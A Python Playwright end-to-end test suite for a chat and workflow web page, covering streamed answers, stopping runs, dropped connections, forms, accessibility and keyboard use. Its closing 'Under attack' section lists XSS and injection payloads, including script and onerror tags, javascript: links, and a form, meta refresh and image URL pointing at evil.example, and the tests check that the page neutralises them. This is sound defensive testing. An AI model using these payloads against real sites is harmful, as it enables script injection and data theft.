"""The page in Chromium, with the real plugin behind it: without a script, with it, read aloud, by keyboard, and under attack."""

import contextlib
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from unittest.mock import patch

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect

from devhost import App, Call, Pause, demo
from devhost.demo.forms import basic, form
from tests.e2e.conftest import DEADLINE_S, Duck, eventually
from tests.support import sample
from tests.test_formats import HOSTILE

CHAT, FLOW = sample("chat"), sample("advanced-chat")
GATED, PLAIN, BROKEN, ASKING, HOSTILE_APP = (f"0b9a8c7d-1111-4222-8333-4444555577a{number}" for number in range(1, 6))
OWN_KEY = "app-gated"
EITHER = pytest.mark.parametrize("scripts", [False, True], ids=["without a script", "with its script"])


def said(text: str) -> dict[str, Any]:
    return {**CHAT[0], "answer": text}


@dataclass
class Gate:
    """An app that goes on, a step at a time, when the test says so."""

    steps: list[dict[str, Any]]
    passed: threading.Semaphore = field(default_factory=lambda: threading.Semaphore(0))

    def app(self) -> App:
        def script(_: Call) -> Iterator[dict[str, Any]]:
            for step in self.steps:
                assert self.passed.acquire(timeout=DEADLINE_S)
                yield step

        return App(mode="advanced-chat", script=script)

    def open(self, count: int = 1) -> None:
        self.passed.release(count)


@dataclass
class Visitor:
    """A browser that opens pages, and remembers what went wrong on them and what they asked for."""

    context: BrowserContext
    page: Page
    complaints: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def duck(local: Duck) -> Iterator[Duck]:
    """Duck with the demo's apps and a few more, all public."""
    local.host.apps.update(demo.apps(pace=0))
    more = {"gated": GATED, "plain": PLAIN, "broken": BROKEN, "asking": ASKING, "hostile": HOSTILE_APP}
    named = demo.settings()
    named["apps"] += "".join(f", {name}={app_id}" for name, app_id in more.items())
    public = ", ".join([*demo.IDS.values(), *more.values()])
    with patch.dict(local.host.settings, named, public_apps=public, public_rate="999999"):
        yield local


type Visit = Callable[..., Visitor]


@pytest.fixture
def visit(browser: Browser, duck: Duck) -> Iterator[Visit]:
    """Opens an app's page. At the end none may have tried what its policy forbids, or have asked another host for anything."""
    contexts: list[BrowserContext] = []
    visitors: list[Visitor] = []

    def visit(path: str, *, scripts: bool = True, **options: Any) -> Visitor:
        context = browser.new_context(java_script_enabled=scripts, **options)
        context.set_default_timeout(DEADLINE_S * 1000)
        contexts.append(context)
        visitor = Visitor(context, context.new_page())
        visitors.append(visitor)
        visitor.page.on("console", lambda told: visitor.complaints.append(told.text) if "Security Policy" in told.text else None)
        visitor.page.on("pageerror", lambda error: visitor.complaints.append(str(error)))
        visitor.page.on("request", lambda request: visitor.requests.append(request.url))
        visitor.page.goto(duck.host.url + path)
        return visitor

    yield visit
    for context in contexts:
        context.close()
    assert [visitor.complaints for visitor in visitors if visitor.complaints] == []
    assert [url for visitor in visitors for url in visitor.requests if not url.startswith(("http://127.0.0.1:", "blob:"))] == []


def ask(page: Page, text: str) -> None:
    page.get_by_role("textbox", name="Message").fill(text)
    page.get_by_role("button", name="Send").click(no_wait_after=True)


def last(page: Page, part: str) -> Locator:
    """What is shown of a part of the latest answer."""
    return page.locator("article").last.locator(part)


def started(node: str, title: str) -> dict[str, Any]:
    return {**FLOW[1], "data": {**FLOW[1]["data"], "id": node, "title": title}}


def finished(node: str, title: str) -> dict[str, Any]:
    return {**FLOW[2], "data": {**FLOW[2]["data"], "id": node, "title": title}}


def ends(answer: str) -> list[dict[str, Any]]:
    return [said(answer), FLOW[-2], FLOW[-1]]


# The live answer


@EITHER
def test_an_answer_grows_as_it_comes_and_a_second_one_follows(visit: Visit, duck: Duck, scripts: bool) -> None:
    gate = Gate([FLOW[0], started("1", "Search"), said("One **"), finished("1", "Search"), said("two** three"), *FLOW[-2:]])
    duck.host.apps[GATED] = gate.app()
    page = visit("/chat/gated", scripts=scripts).page
    ask(page, "First?")
    gate.open(2)
    expect(page.get_by_role("heading", name="First?")).to_be_visible()
    expect(last(page, "x-now").last).to_have_text("Running: Search")
    gate.open()
    expect(last(page, "x-t")).to_have_text("One **")
    expect(last(page, "x-now").last).to_have_text("Running: Search")
    gate.open()
    expect(last(page, "x-step")).to_have_text("✓ Search")
    expect(last(page, "x-now").last).to_have_text("Answering …")
    gate.open()
    expect(last(page, "x-t").last).to_have_text("two** three")
    expect(last(page, "[slot=final]")).to_have_count(0)
    gate.open(2)
    expect(last(page, "[slot=final] strong")).to_have_text("two")
    expect(last(page, "x-t").first).not_to_be_visible()
    expect(last(page, "[slot=done]")).to_have_text("Finished")

    duck.host.apps[GATED] = App(mode="advanced-chat", script=[FLOW[0], *ends("And **four**.")])
    ask(page, "Second?")
    expect(page.get_by_role("article")).to_have_count(2)
    expect(last(page, "[slot=final] strong")).to_have_text("four")
    expect(page.get_by_role("article").first).to_contain_text("One two three")
    assert duck.host.calls[-1].conversation_id == FLOW[0]["conversation_id"]


def test_with_its_script_the_page_stays_where_it_is(visit: Visit, duck: Duck) -> None:
    duck.host.apps[PLAIN] = App(mode="chat", script=[said("Hi **there**"), CHAT[-1]])
    visitor = visit("/chat/plain")
    visitor.page.evaluate("window.marker = 1")
    for number in (1, 2):
        ask(visitor.page, f"Question {number}")
        expect(last(visitor.page, "[slot=final] strong")).to_have_text("there")
        expect(visitor.page.get_by_role("article")).to_have_count(number)
    assert visitor.page.evaluate("window.marker") == 1
    expect(visitor.page.get_by_role("textbox", name="Message")).to_be_focused()


@EITHER
def test_what_is_replaced_disappears(visit: Visit, duck: Duck, scripts: bool) -> None:
    gate = Gate([said("bad words"), {**CHAT[0], "event": "message_replace", "answer": "Removed."}, CHAT[-1]])
    duck.host.apps[GATED] = App(mode="chat", script=gate.app().script)
    page = visit("/chat/gated", scripts=scripts).page
    ask(page, "?")
    gate.open()
    expect(page.get_by_text("bad words")).to_be_visible()
    gate.open()
    expect(page.get_by_text("Removed.")).to_be_visible()
    expect(page.get_by_text("bad words")).not_to_be_visible()
    gate.open()
    expect(last(page, "[slot=final]")).to_have_text("Removed.")


def test_enter_sends_and_shift_and_enter_begins_a_line(visit: Visit, duck: Duck) -> None:
    duck.host.apps[PLAIN] = App(mode="chat", script=[said("Hi"), CHAT[-1]])
    page = visit("/chat/plain").page
    box = page.get_by_role("textbox", name="Message")
    box.press_sequentially("one")
    box.press("Shift+Enter")
    box.press_sequentially("two")
    box.press("Enter")
    expect(last(page, "[slot=final]")).to_have_text("Hi")
    assert duck.host.calls[-1].query == "one\ntwo"


# What may go wrong


def test_stop_stops_reading_and_gives_the_question_back(visit: Visit, duck: Duck) -> None:
    gate = Gate([said("One"), CHAT[-1]])
    duck.host.apps[GATED] = App(mode="chat", script=gate.app().script)
    page = visit("/chat/gated").page
    ask(page, "Why?")
    gate.open()
    expect(last(page, "x-t")).to_have_text("One")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_role("alert")).to_have_text("You have stopped reading. The run goes on in Dify.")
    expect(page.get_by_role("textbox", name="Message")).to_have_value("Why?")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(last(page, "[slot=done]")).to_have_text("Ended")
    gate.open()
    ask(page, "And now?")
    gate.open(2)
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    assert duck.host.calls[-1].conversation_id == CHAT[0]["conversation_id"], "what was stopped has begun one"


@pytest.mark.parametrize("end", ["its end", "an error", "Stop"])
def test_what_is_typed_while_an_answer_comes_is_kept(visit: Visit, duck: Duck, end: str) -> None:
    gate = Gate(
        [
            said("One"),
            {**FLOW[-1], "event": "error", "code": "x", "message": "No.", "status": 400} if end == "an error" else CHAT[-1],
        ]
    )
    duck.host.apps[GATED] = App(mode="chat", script=gate.app().script)
    page = visit("/chat/gated").page
    ask(page, "Why?")
    gate.open()
    expect(last(page, "x-t")).to_have_text("One")
    box = page.get_by_role("textbox", name="Message")
    box.press_sequentially("And then")
    if end == "Stop":
        page.get_by_role("button", name="Stop").click()
    gate.open()
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(box).to_have_value("And then")
    expect(page.get_by_role("heading", name="Why?")).to_be_visible()
    box.press_sequentially("?")
    expect(box).to_have_value("And then?")


def test_stop_stops_the_run_where_the_app_has_a_key_of_its_own(visit: Visit, duck: Duck) -> None:
    closed = threading.Event()

    def script(_: Call) -> Iterator[dict[str, Any] | Pause]:
        try:
            yield said("One")
            while True:
                yield Pause(0.05)
        finally:
            closed.set()

    duck.host.apps[GATED] = App(mode="chat", script=script)
    keys = {"app_keys": f"gated={OWN_KEY}", "service_api_url": duck.host.api_url}
    with patch.dict(duck.host.app_keys, {OWN_KEY: GATED}), patch.dict(duck.host.settings, keys):
        page = visit("/chat/gated").page
        ask(page, "Why?")
        expect(last(page, "x-t")).to_have_text("One")
        page.get_by_role("button", name="Stop").click()
        expect(page.get_by_role("alert")).to_have_text("You have stopped this run.")
        assert closed.wait(DEADLINE_S)


def test_a_question_shows_before_there_is_an_answer_and_can_be_stopped(visit: Visit, duck: Duck) -> None:
    gate = Gate([said("One"), CHAT[-1]])
    duck.host.apps[GATED] = App(mode="chat", script=gate.app().script)
    page = visit("/chat/gated").page
    ask(page, "Why?")
    expect(page.get_by_role("heading", name="Why?")).to_be_visible()
    expect(page.get_by_role("status")).to_have_text("Waiting …")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_role("alert")).to_contain_text("You have stopped reading.")
    gate.open(2)


def test_a_connection_that_breaks_is_told_of(visit: Visit, duck: Duck) -> None:
    gate = Gate([said("One"), CHAT[-1]])
    duck.host.apps[GATED] = App(mode="chat", script=gate.app().script)
    visitor = visit("/chat/gated")
    with cutting(duck.host.port) as (port, cut):
        visitor.page.goto(visitor.page.url.replace(f":{duck.host.port}", f":{port}"))
        ask(visitor.page, "Why?")
        gate.open()
        expect(last(visitor.page, "x-t")).to_have_text("One")
        cut()
        expect(visitor.page.get_by_role("alert")).to_contain_text("The connection broke off.")
        expect(visitor.page.get_by_role("textbox", name="Message")).to_have_value("Why?")
    gate.open()


@contextlib.contextmanager
def cutting(port: int) -> Iterator[tuple[int, Callable[[], None]]]:
    """A way to what listens on `port` that breaks when it is cut."""
    connections: list[socket.socket] = []
    listener = socket.create_server(("127.0.0.1", 0))

    def pass_on(source: socket.socket, target: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)

    def accept() -> None:
        with contextlib.suppress(OSError):
            while True:
                near, far = listener.accept()[0], socket.create_connection(("127.0.0.1", port))
                connections.extend((near, far))
                for pair in ((near, far), (far, near)):
                    threading.Thread(target=pass_on, args=pair, daemon=True).start()

    def cut() -> None:
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.setsockopt(
                    socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
                )  # a reset, as of a lost network
                connection.shutdown(socket.SHUT_RDWR)
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listener.getsockname()[1], cut
    finally:
        cut()
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()


@EITHER
def test_a_failed_turn_can_be_sent_again(visit: Visit, duck: Duck, scripts: bool) -> None:
    page = visit("/chat/fails-midway", scripts=scripts).page
    for number in (1, 2):
        expect(page.get_by_role("textbox", name="Message")).to_have_value("" if number == 1 else "Why?")
        ask(page, "Why?")
        expect(page.get_by_role("alert").last).to_contain_text("This app takes no more requests for now.")
        expect(page.get_by_text(f"question number {number}")).to_be_visible()
    assert len(duck.host.calls) >= 2


@EITHER
def test_a_run_that_fails_at_once_is_told_of_in_its_place(visit: Visit, scripts: bool) -> None:
    page = visit("/chat/fails-early", scripts=scripts).page
    ask(page, "Why?")
    expect(page.get_by_role("article").get_by_role("alert")).to_contain_text("This app could not answer.")
    expect(page.get_by_role("textbox", name="Message")).to_have_value("Why?")


# Forms


@EITHER
def test_mistakes_come_back_at_their_field_with_all_else_kept(visit: Visit, duck: Duck, scripts: bool) -> None:
    count = basic("number", "count", "Count")
    duck.host.apps[BROKEN] = App(mode="workflow", script=[], form=form(basic("text-input", "city", "City", max_length=5), count))
    page = visit("/workflow/broken", scripts=scripts).page
    city = page.get_by_role("textbox", name="City")
    city.evaluate("element => element.removeAttribute('maxlength')")
    city.fill("Reykjavik")
    page.get_by_label("Count").fill("3")
    page.get_by_role("button", name="Run").click()
    expect(page.get_by_text("at most 5 characters, this has 9")).to_be_visible()
    city = page.get_by_role("textbox", name="City")
    expect(city).to_have_value("Reykjavik")
    expect(city).to_have_attribute("aria-invalid", "true")
    expect(page.get_by_label("Count")).to_have_value("3")


def test_without_a_script_a_result_is_where_the_reader_looks(visit: Visit) -> None:
    page = visit("/workflow/workflow?text=Rain", scripts=False).page
    page.get_by_role("button", name="Run").click()
    expect(last(page, "[slot=final] dd").first).to_be_in_viewport()
    expect(page.get_by_label("Text")).to_have_value("Rain")


def test_a_mistake_has_the_focus(visit: Visit) -> None:
    page = visit("/workflow/workflow?text=Rain&words=12").page
    page.get_by_label("Meta").fill("{")
    page.get_by_role("button", name="Run").click()
    expect(page.get_by_label("Meta")).to_be_focused()


@EITHER
def test_every_kind_of_input_reaches_the_app_and_its_result_is_shown(visit: Visit, duck: Duck, scripts: bool) -> None:
    page = visit("/workflow/workflow", scripts=scripts).page
    page.get_by_label("Text").fill("Rain is coming.")
    page.get_by_label("Title").fill("Weather")
    page.get_by_label("Tone").select_option("casual")
    page.get_by_label("Words to keep").fill("2")
    page.get_by_label("In capitals").check()
    page.get_by_label("Document").set_input_files({"name": "a.txt", "mimeType": "text/plain", "buffer": b"hello"})
    page.get_by_label("Meta").fill('{"source": "sky"}')
    page.get_by_role("button", name="Run").click()
    expect(last(page, "[slot=final] dd").first).to_contain_text("RAIN IS …")
    given = duck.host.calls[-1].inputs
    assert (given["title"], given["tone"], given["words"], given["loud"], given["meta"]) == (
        "Weather",
        "casual",
        2,
        True,
        {"source": "sky"},
    )
    expect(last(page, "[slot=final] dd").first).to_contain_text("a.txt (document)")


@EITHER
def test_one_click_on_a_suggestion_asks_it(visit: Visit, duck: Duck, scripts: bool) -> None:
    page = visit("/chat/chatbot", scripts=scripts).page
    page.get_by_role("button", name="What is an endpoint plugin?").click()
    expect(page.get_by_role("heading", name="What is an endpoint plugin?")).to_be_visible()
    expect(last(page, "[slot=final] strong")).to_have_text("events")
    expect(page.get_by_text("Hello! What would you like to know?")).to_have_count(0)
    assert duck.host.calls[-1].query == "What is an endpoint plugin?"


def test_the_picture_that_an_agent_draws_is_shown(visit: Visit) -> None:
    page = visit("/chat/agent").page
    ask(page, "a duck")
    picture = last(page, "[slot=files] img")
    expect(picture).to_be_visible()
    assert eventually(lambda: picture.evaluate("image => image.naturalWidth") > 0)


def test_the_landing_page_leads_to_the_apps(visit: Visit) -> None:
    page = visit("/").page
    page.get_by_role("listitem").filter(has_text="chatbot").get_by_role("link", name="Chat").click()
    expect(page.get_by_role("heading", name="chatbot")).to_be_visible()
    page.get_by_role("link", name="All apps").click()
    expect(page.get_by_role("heading", name="Apps")).to_be_visible()


def test_code_can_be_copied(visit: Visit) -> None:
    visitor = visit("/")
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visitor.page.get_by_role("button", name="Copy").click()
    expect(visitor.page.get_by_role("button", name="Copied")).to_be_visible()
    assert "curl -N" in visitor.page.evaluate("navigator.clipboard.readText()")


# For everybody


def assert_accessible(page: Page) -> None:
    """What axe finds nothing wrong with, in light colours and in dark ones."""
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
        found = Axe().run(page)
        assert found.violations_count == 0, found.generate_report()


def test_an_answer_stands_in_nobodys_way_before_it_begins_while_it_comes_and_at_its_end(visit: Visit, duck: Duck) -> None:
    gate = Gate(
        [
            FLOW[0],
            started("1", "Search"),
            finished("1", "Search"),
            *ends("# Title\n\n|a|b|\n|-|-|\n|1|2|\n\n`code` [x](https://x.example)\n\n```\nx\n```"),
        ]
    )
    duck.host.apps[GATED] = gate.app()
    page = visit("/chat/gated").page
    assert_accessible(page)
    ask(page, "Why?")
    gate.open(4)
    expect(last(page, "x-t").first).to_contain_text("Title")
    assert_accessible(page)
    gate.open(2)
    expect(last(page, "[slot=final] table")).to_be_visible()
    assert_accessible(page)


def test_an_error_and_a_result_stand_in_nobodys_way(visit: Visit) -> None:
    page = visit("/chat/fails-midway").page
    ask(page, "Why?")
    expect(page.get_by_role("alert")).to_be_visible()
    assert_accessible(page)
    page = visit("/workflow/report").page
    page.get_by_role("button", name="Run").click()
    expect(last(page, "[slot=final] dd")).to_be_visible()
    assert_accessible(page)


@pytest.mark.parametrize("path", ["/", "/workflow/workflow"])
def test_a_form_and_the_list_of_apps_stand_in_nobodys_way(visit: Visit, path: str) -> None:
    assert_accessible(visit(path).page)


def test_a_keyboard_is_enough(visit: Visit, duck: Duck) -> None:
    duck.host.apps[ASKING] = App(mode="chat", script=[said("Hi"), CHAT[-1]], form=form(basic("text-input", "name", "Name")))
    page = visit("/chat/asking").page
    names = []
    for _ in range(4):
        page.keyboard.press("Tab")
        names.append(page.evaluate("document.activeElement.name || document.activeElement.textContent.trim()"))
    assert names == ["All apps", "Inputs", "query", "Send"]
    page.keyboard.press("Shift+Tab")
    page.keyboard.type("Hello")
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    expect(last(page, "[slot=final]")).to_have_text("Hi")


@pytest.mark.parametrize("path", ["/", "/chat/gated", "/workflow/workflow"])
def test_a_narrow_screen_is_wide_enough(visit: Visit, duck: Duck, path: str) -> None:
    """So is a wide one at 200 %: a browser lays it out as one of half the width."""
    duck.host.apps[GATED] = App(
        mode="advanced-chat", script=[FLOW[0], *ends("x" * 500 + "\n\n|" + "wide cell|" * 9 + "\n|" + "-|" * 9)]
    )
    page = visit(path, viewport={"width": 320, "height": 640}).page
    if "chat" in path:
        ask(page, "w" * 200)
        expect(last(page, "[slot=final] table")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 320


def test_nothing_moves_where_that_is_not_wanted(visit: Visit, duck: Duck) -> None:
    gate = Gate([FLOW[0], started("1", "Search"), *ends("x")])
    duck.host.apps[GATED] = gate.app()
    for motion, moves in (("reduce", 0), ("no-preference", 1)):
        page = visit("/chat/gated", reduced_motion=motion).page
        ask(page, "?")
        gate.open(2)
        expect(last(page, "x-now").last).to_be_visible()
        assert page.evaluate("document.getAnimations().length") == moves
        gate.open(3)
        expect(last(page, "[slot=final]")).to_have_text("x")


# Under attack


MARKUP = [
    "<script>parent.pwned = top.pwned = 1</script>",
    "</x-t></div></article></main></body></html><script>pwned = 1</script>",
    '<img src="x" onerror="pwned=1"><svg onload="pwned=1">',
    "<![CDATA[ x ]]> ]]>",
    '<form action="https://evil.example"><button>Send</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example>",
    HOSTILE,
    "a\0b \u202eevil\u2066 right to left \u061c",
    '<template shadowrootmode="open"><slot name="final"> <!-- both stay open',
]
ATTACKS = {
    "markup": "\n\n".join(MARKUP),
    "links": "[a](javascript:pwned=1) [b](data:text/html,<script>pwned=1</script>) <javascript:pwned=1> "
    "![x](https://evil.example/?secret) ![y](//evil.example/y.png)",
    "one long word": "x" * 1_000_000,
}


@EITHER
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_answer_does_no_harm_while_it_comes_nor_at_its_end(visit: Visit, duck: Duck, attack: str, scripts: bool) -> None:
    gate = Gate([FLOW[0], started("1", attack[:1000]), finished("1", attack[:1000]), said(attack), *FLOW[-2:]])
    duck.host.apps[HOSTILE_APP] = gate.app()
    visitor = visit("/chat/hostile", scripts=scripts)
    page = visitor.page
    ask(page, attack[:1000].replace("\0", ""))
    gate.open(4)
    expect(last(page, "x-t").first).to_be_attached()
    assert_unharmed(page)
    gate.open(2)
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(last(page, "[slot=done]")).to_be_attached()
    assert_unharmed(page)
    assert {request.partition("/e/")[0] for request in visitor.requests} == {duck.host.url.partition("/e/")[0]}


def test_what_a_page_may_not_do_would_be_noticed(visit: Visit) -> None:
    visitor = visit("/")
    visitor.page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x'}))")
    assert eventually(lambda: bool(visitor.page.title() and visitor.complaints))
    visitor.complaints.clear()
    visitor.requests.clear()


def assert_unharmed(page: Page) -> None:
    found = page.evaluate(HARM)
    assert (found["scripts"] <= 1, found["forms"] <= 1) == (True, True)
    assert (found["pwned"], found["strange"], found["articles"], found["links"]) == ("undefined", 0, 1, True)


# While a page comes, its script and its form are not there yet.
HARM = """() => ({
    pwned: typeof pwned,
    scripts: document.scripts.length,
    forms: document.forms.length,
    articles: document.querySelectorAll("main article").length,
    links: [...document.links].every((link) => ["http:", "https:"].includes(link.protocol)),
    strange: [...document.querySelectorAll("article *")].filter((element) =>
        element.matches("script, style, link, base, meta, iframe, form, object, img, svg") ||
        element.getAttributeNames().some((name) => name.startsWith("on"))).length,
})"""
